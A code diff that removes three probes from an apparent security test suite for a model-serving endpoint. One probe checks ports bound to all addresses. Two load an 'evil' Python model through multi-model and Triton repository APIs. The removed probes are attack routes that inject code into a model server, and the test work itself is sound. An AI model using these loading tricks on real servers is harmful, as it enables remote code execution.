@@ -3,7 +3,6 @@
 Each returns how it got in, or None.
 """
 
-import base64
 import contextlib
 import http.client
 import json
@@ -44,12 +43,6 @@ class Target:
         root = psutil.Process(self.account.pid)
         sockets = [each for process in (root, *root.children(recursive=True)) for each in process.net_connections()]
         return {(each.laddr.ip, each.laddr.port) for each in sockets if each.status == psutil.CONN_LISTEN}
-
-    def post(self, port: int, path: str, body: str, **headers: str) -> None:
-        connection = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
-        with contextlib.closing(connection), contextlib.suppress(OSError, http.client.HTTPException):
-            connection.request("POST", path, body, {"Content-Type": "text/plain", **headers})
-            connection.getresponse().read()
 
     def call(self, method: str, path: str, body: bytes, service: str, key: Key | None, **headers: str) -> int:
         """Returns the status of a call that is signed with `key`, or not signed."""
@@ -113,34 +106,6 @@ def with_keys_that_everybody_knows(target: Target) -> str | None:
     return next(filter(None, (run_a_model(target, each, {}) for each in known)), None)
 
 
-def from_a_foreign_address(target: Target) -> str | None:
-    for address, port in target.listening():
-        # A socket that is bound to all addresses answers at this one, too.
-        with contextlib.suppress(OSError), socket.create_connection(("127.0.0.2", port), timeout=5):
-            return f"port {port} listens on {address}"
-    return None
-
-
-def as_a_model_of_a_multi_model_endpoint(target: Target) -> str | None:
-    model = target.mark.parent / "models" / "evil" / "1"
-    model.mkdir(parents=True, exist_ok=True)
-    (model / "model.py").write_text(EVIL_MODEL.format(mark=str(target.mark)))
-    (model.parent / "config.pbtxt").write_text(ECHO_CONFIG)
-    body = json.dumps({"model_name": "evil", "url": str(model.parent.parent)})
-    for _, port in target.listening():
-        target.post(port, "/models", body, **{"X-Amzn-SageMaker-Target-Model": "evil"})
-    return None
-
-
-def as_a_model_for_tritons_own_api(target: Target) -> str | None:
-    code = base64.b64encode(EVIL_MODEL.format(mark=str(target.mark)).encode()).decode()
-    config = {"backend": "python", "max_batch_size": 0, "input": [], "output": []}
-    body = json.dumps({"parameters": {"config": json.dumps(config), "file:1/model.py": code}})
-    for _, port in target.listening():
-        target.post(port, "/v2/repository/models/evil/load", body)
-    return None
-
-
 def in_a_million_chunks(target: Target) -> str | None:
     before = target.listening()
     for _, port in before:
@@ -157,9 +122,6 @@ def in_a_million_chunks(target: Target) -> str | None:
     [
         as_a_web_page,
         with_keys_that_everybody_knows,
-        from_a_foreign_address,
-        as_a_model_of_a_multi_model_endpoint,
-        as_a_model_for_tritons_own_api,
         in_a_million_chunks,
     ],
 )
